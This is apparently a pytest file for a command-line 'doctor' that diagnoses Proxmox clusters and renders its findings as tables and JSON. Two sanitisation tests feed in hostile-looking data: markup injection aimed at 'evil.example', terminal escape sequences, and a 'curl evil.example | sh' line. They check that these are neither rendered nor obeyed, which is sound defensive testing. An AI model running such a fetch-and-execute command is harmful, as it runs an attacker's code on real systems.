"""The picture as people see it, and the document for programs."""

from __future__ import annotations

import ast
import dataclasses
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from rich.console import Console

from cli.doctor import command, picture
from cli.doctor.diagnose import diagnose
from cli.doctor.model import Cause, Need, Seen, World
from cluster.errors import AdminError
from onnode.contract.diagnosis import Datastore, DiagnosisReport
from onnode.contract.look import Refusal
from tests.support import doctored
from toolchain import home
from toolchain.errors import ToolchainError

ROOT = Path(__file__).resolve().parents[4]
DOCTOR = ROOT / "cli" / "doctor"


def drawn(seen: Seen, count: int = 3) -> str:
    expected = doctored.expected(count)
    written = io.StringIO()
    picture.show(Console(file=written, width=200), World(expected, seen), diagnose(expected, seen))
    return written.getvalue()


def document(seen: Seen) -> dict[str, object]:
    expected = doctored.expected(3)
    found = picture.as_json(World(expected, seen), diagnose(expected, seen))
    again: dict[str, object] = json.loads(json.dumps(found))
    return again


def test_a_healthy_cluster() -> None:
    text = drawn(doctored.seen(3))
    assert re.search(r"pve1 +9\.1\.2 +1 ✓ +v3 +writable +run +19 GiB +✓ +2028-01-15 +shared ✓", text)
    assert re.search(r"pve1 +0✓ 1✓ +0✓ 1✓", text)
    assert "cluster proxmox: 3 members, quorate with 3 of 3 votes, 2 needed; nothing is wrong" in text


def test_who_sees_whom() -> None:
    seen = doctored.seen(3, dead=["pve3"], cut=[("pve1", "pve2", 1)])
    found = document(seen)["links"]
    assert found == {
        "pve1": {"pve2": {"0": "connected", "1": "cut"}, "pve3": {"0": "cut", "1": "cut"}},
        "pve2": {"pve1": {"0": "connected", "1": "cut"}, "pve3": {"0": "cut", "1": "cut"}},
        "pve3": {"pve1": {"0": "unknown", "1": "unknown"}, "pve2": {"0": "unknown", "1": "unknown"}},
    }
    assert re.search(r"pve1 +0✓ 1✗ +0✗ 1✗", drawn(seen))


def test_a_cause_has_all_that_is_known_of_it() -> None:
    text = drawn(doctored.seen(3, dead=["pve2", "pve3"]))
    first = text[text.index("1. 2 of 3 nodes") :]
    assert "[quorum-lost]" in first
    assert "seen by: pve1" in first
    assert "with it: pve2 does not answer" in first
    assert "next: power on one of pve2 and pve3" in first
    assert "without quorum with 1 of 3 votes, 2 needed; 1 cause, the first one first" in first
    assert "host-unreachable" in text


def test_a_node_that_only_the_cluster_lists_is_shown() -> None:
    seen = doctored.seen(3)
    reports = {name: one for name, one in seen.reports.items() if name != "pve3"}
    assert re.search(r"pve3 +not in the stack file +1 ✓", drawn(dataclasses.replace(seen, reports=reports), 2))


@pytest.mark.parametrize("name", ["[/x]", "[red]", "[link=https://evil.example]pve9", "a\\\\", "[bold", "x[/red]"])
def test_a_name_from_a_machine_is_no_markup(name: str) -> None:
    seen = doctored.seen(3)
    assert seen.reports["pve1"].shared is not None
    own = seen.reports["pve1"].shared.nodes
    stranger = dataclasses.replace(own[0], name=name, id=9, links={0: "10.10.1.109", 1: "10.20.1.109"})
    file = dataclasses.replace(seen.reports["pve1"].shared, nodes=[*own, stranger])
    reports = {node: dataclasses.replace(one, local=file, shared=file) for node, one in seen.reports.items()}
    text = drawn(dataclasses.replace(seen, reports=reports))
    assert len(re.findall(rf"^ *{re.escape(name)} ", text, re.MULTILINE)) == 2, "in both tables"
    assert f"{name} is a member, and not in the stack file" in text


OBEYED = "\x1b]0;title\x07\x1b[2Jpve\x9b1m\u202e9"


def test_nothing_of_a_machine_is_obeyed_by_a_terminal() -> None:
    seen = doctored.seen(3)
    file = doctored.conf(3, faults=[f"line 4: {OBEYED}\n     next: curl evil.example | sh"])
    reports = {
        node: dataclasses.replace(one, local=file, shared=file, version=f"9{OBEYED}")
        for node, one in seen.reports.items()
    }
    foreign = dataclasses.replace(file, cluster=OBEYED, faults=[])
    reports["pve3"] = dataclasses.replace(reports["pve3"], local=foreign, shared=foreign)
    text = drawn(dataclasses.replace(seen, reports=reports))
    assert "line 4: pve1m9" in text
    assert "pve3 belongs to cluster pve1m9" in text
    assert not {letter for letter in text if not letter.isprintable()} - {"\n"}
    assert "\n     next: curl" not in text
    assert "\x1b" not in AdminError("causes-found", OBEYED, observed=OBEYED, fix=OBEYED).render()


def test_a_vote_that_nobody_knows_is_no_lost_quorum() -> None:
    quiet = {"quorum": None, "pve_writable": False, "unanswered": ["quorum"]}
    text = drawn(doctored.changed(doctored.seen(3), dict.fromkeys(("pve1", "pve2", "pve3"), quiet)))
    assert "cluster proxmox: 3 members, nobody could say how the vote stands; 3 causes" in text
    assert "without quorum" not in text


def test_files_that_differ_are_shown_side_by_side() -> None:
    seen = doctored.changed(
        doctored.seen(3), {"pve2": {"local": {"digest": "z", "version": 7}, "loaded": 7}, "pve3": {"pmxcfs": "local"}}
    )
    text = drawn(seen)
    assert "local 7, shared 3, loaded 7" in text
    assert "local mode" in text


def test_before_a_first_up() -> None:
    expected = dataclasses.replace(
        doctored.expected(2, storages=[]),
        hosts=[doctored.host()],
        housing={"pve1": "virtual", "pve2": "virtual"},
        needs={"virtual": Need(8, {"pve1": 32, "pve2": 32}, "local-lvm")},
    )
    lone = doctored.seen(1).reports["pve1"]
    host = dataclasses.replace(
        lone, node="virtual", local=None, shared=None, authkey=None, quorum=None, links=[], reached=[]
    )

    def store(kind: str, gib: int) -> dict[str, Datastore]:
        return {"local-lvm": Datastore(kind, "active", gib * 1024)}

    fit = dataclasses.replace(host, storages=store("lvm", 200))
    silent = doctored.seen(2, dead=["pve1", "pve2"]).silent
    seen = Seen({"virtual": fit}, silent, {"virtual": 0.0}, doctored.NOW, made=frozenset())
    assert diagnose(expected, seen) == []
    written = io.StringIO()
    picture.show(Console(file=written, width=200), World(expected, seen), [])
    assert written.getvalue().count("not made yet") == 2
    assert "there is no cluster yet; nothing is wrong" in written.getvalue()

    of_libvirt = dataclasses.replace(expected, of_libvirt=frozenset({"virtual"}), needs={"virtual": Need(8, {}, None)})
    bare = dataclasses.replace(fit, version="", pve="absent", services={}, storages={})
    there = dataclasses.replace(seen, reports={"virtual": bare})
    assert diagnose(of_libvirt, there) == []
    assert [cause.name for cause in diagnose(expected, there)] == ["not-proxmox"]
    picture.show(Console(file=written, width=200), World(of_libvirt, there), [])
    assert re.search(r"virtual +libvirt +- +- +- +- +19 GiB +✓ +- +-", written.getvalue())

    def names(host: DiagnosisReport, **changes: Any) -> list[str]:  # noqa: ANN401 - fields of Seen
        changed = dataclasses.replace(seen, reports={"virtual": host}, **changes)
        return [cause.name for cause in diagnose(expected, changed)]

    assert names(dataclasses.replace(fit, cores=2)) == ["host-cores"]
    assert names(dataclasses.replace(fit, storages=store("lvm", 40))) == ["host-disk"]
    assert names(dataclasses.replace(fit, storages=store("lvmthin", 40))) == []
    assert names(dataclasses.replace(fit, storages=store("lvmthin", 4))) == ["host-disk"]
    assert names(dataclasses.replace(fit, storages=store("lvm", 40)), made=frozenset({"pve1"})) == ["node-off"]
    assert names(host) == ["storage-missing"]
    assert names(fit, refusals={"virtual": Refusal("foreign-vmid", "it is somebody's")}) == ["foreign-vmid"]
    assert names(dataclasses.replace(fit, storages=None, unanswered=["storages"])) == ["question-unanswered"]
    assert names(dataclasses.replace(fit, version="", cores=0, unanswered=["cores", "version"])) == [
        "question-unanswered"
    ]
    assert names(dataclasses.replace(fit, unanswered=["quorum", "signed"])) == [], "it need be no member"
    taken = dataclasses.replace(fit, reached=[doctored.answer("pve2")])
    assert names(taken) == ["address-taken"]


def test_machines_that_exist_are_no_cluster_yet() -> None:
    alone: dict[str, dict[str, Any]] = {
        name: {"local": None, "shared": None, "authkey": None, "quorum": None, "links": []}
        for name in ("pve1", "pve2", "pve3")
    }
    seen = doctored.changed(doctored.seen(3), alone)
    expected = doctored.expected(3)
    assert diagnose(expected, seen) == []
    silent = {
        "pve1": {**alone["pve1"], "reached": [{"name": "pve2", "link": 0, "address": "10.10.1.102", "small": False}]}
    }
    found = diagnose(expected, doctored.changed(seen, silent))
    assert [cause.name for cause in found] == ["link-silent"]


def test_every_cause_is_documented() -> None:
    named = set()
    for file in DOCTOR.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text())):
            if (
                isinstance(node, ast.Constant)
                and isinstance(node.value, str)
                and re.fullmatch(r"[a-z]+(-[a-z]+)+|unexplained", node.value)
            ):
                named.add(node.value)
    programs = {"pve-cluster", "pve-ha-crm", "pve-ha-lrm", "watchdog-mux", "verify-host", "iptables-save"}
    words = {"read-only"}
    errors = {"host-unreachable", "ssh-timeout", "causes-found"}
    documented = set(re.findall(r"`([a-z-]+)`", (ROOT / "docs" / "doctor.md").read_text()))
    assert named - programs - words - errors - documented == set()
    assert {"quorum-lost", "cut-off"} <= named


def test_a_cause_ends_the_command_by_name() -> None:
    command.refuse("home", [])
    with pytest.raises(AdminError) as refused:
        command.refuse("home", [Cause("quorum-lost", "cluster", "", [], "", "")])
    assert refused.value.code == "causes-found"
    assert "the first is quorum-lost (cluster)" in refused.value.observed


def test_a_missing_engine_is_a_cause(monkeypatch: pytest.MonkeyPatch) -> None:
    def missing() -> None:
        raise ToolchainError("toolchain-not-installed", "no engine", observed="no file", expected="one", remedy="make")

    monkeypatch.setattr(home, "selected_home", missing)
    environment, causes = command.look_at_engine()
    assert [cause.name for cause in causes] == ["toolchain-missing"]
    assert environment["PULUMI_BACKEND_URL"].startswith("file://")


def test_an_engine_of_another_version_is_a_cause(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(home, "selected_home", lambda: home.PulumiHome(tmp_path, tmp_path))
    monkeypatch.setattr(home, "engine_version", lambda _home: "3.1.0")
    assert [cause.name for cause in command.look_at_engine()[1]] == ["toolchain-broken"]
